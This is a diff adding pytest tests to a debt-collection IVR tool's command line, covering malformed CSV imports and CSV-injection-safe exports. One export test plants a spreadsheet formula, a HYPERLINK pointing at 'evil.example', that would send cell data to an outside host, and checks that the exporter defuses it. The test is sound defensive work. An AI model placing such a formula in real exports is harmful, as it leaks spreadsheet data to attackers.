@@ -2,21 +2,25 @@
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
+import io
 import json
 import logging
+from decimal import Decimal
 from pathlib import Path
 
 import pytest
-from sqlalchemy import func, select
+from sqlalchemy import func, select, update
 
 from ivr.cli import main
 from ivr.commands.export_cmd import parse_since
 from ivr.db.base import make_engine, make_session_factory
-from ivr.db.models import Account, DebtCase, ImportRun, Payment
+from ivr.db.models import Account, BlockListEntry, DebtCase, ImportRun, Payment
 from ivr.sample import ACCOUNTS_CSV, PAYMENTS_CSV
 from ivr.sample.generate import BROKEN_ACCOUNT_LINES, WARNING_LINE
 from tests.billing.test_exporter import fill
+from tests.billing.test_import_broken import STRAY_QUOTE, utf8_file_with_one_cp1251_line
 
 
 @pytest.fixture
@@ -150,3 +154,49 @@ def test_committed_sample_matches_its_generator(tmp_path):
     accounts.read_bytes().decode("cp1251")  # Windows-1251 ...
     with pytest.raises(UnicodeDecodeError):
         accounts.read_bytes().decode("utf-8")  # ... and not UTF-8
+
+
+# --- broken input ---------------------------------------------------------------------------------
+
+def _ids(sessions):
+    with sessions() as s:
+        return s.scalars(select(Account.external_id)).all()
+
+
+def test_cli_reports_the_broken_line_and_imports_the_rest(ivr, tmp_path, sessions):
+    path = tmp_path / "q.csv"
+    path.write_bytes(STRAY_QUOTE.encode("cp1251"))
+    ivr("db", "upgrade")
+    code, out, err = ivr("import", "accounts", str(path), "--no-progress")
+    assert code == 0, err
+    assert "line 3: unreadable record: a quote opened on this line is never closed" in out
+    assert "Traceback" not in out + err
+    assert sorted(_ids(sessions)) == ["B-1", "B-3", "B-4"]
+
+
+def test_cli_refuses_a_mixed_file_with_the_line_numbers(ivr, tmp_path):
+    path = tmp_path / "mixed.csv"
+    path.write_bytes(utf8_file_with_one_cp1251_line())
+    ivr("db", "upgrade")
+    code, _out, err = ivr("import", "accounts", str(path), "--no-progress")
+    assert code == 1 and "nothing imported: the file mixes encodings: line(s) 6 are not UTF-8" in err
+
+
+def test_export_neutralises_formulas_and_keeps_numbers(ivr, sessions):
+    assert ivr("db", "init")[0] == 0
+    with sessions.begin() as s:
+        fill(s)
+        first, second = s.scalars(select(Account).order_by(Account.external_id)).all()
+        first.holder_name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+        second.holder_name = "@SUM(1+1)"
+        second.external_id = "-A-2"
+        s.execute(update(DebtCase).where(DebtCase.account_id == second.id).values(amount_owed=Decimal("-150.00")))
+        s.execute(update(BlockListEntry).values(amount_owed=Decimal("-150.00")))
+    code, out, _ = ivr("export", "outcomes")
+    rows = list(csv.DictReader(io.StringIO(out)))
+    assert code == 0 and [r["holder_name"] for r in rows] == [
+        '\'=HYPERLINK("http://evil.example/?"&A1,"click")', "'@SUM(1+1)"]
+    assert rows[1]["account"] == "'-A-2" and rows[1]["amount_owed"] == "-150.00"  # a number stays a number
+    assert rows[0]["phone"] == "+79161234561"
+    code, out, _ = ivr("export", "blocklist", "--delimiter", ";")
+    assert code == 0 and "'-A-2;'@SUM(1+1);-150.00;" in out
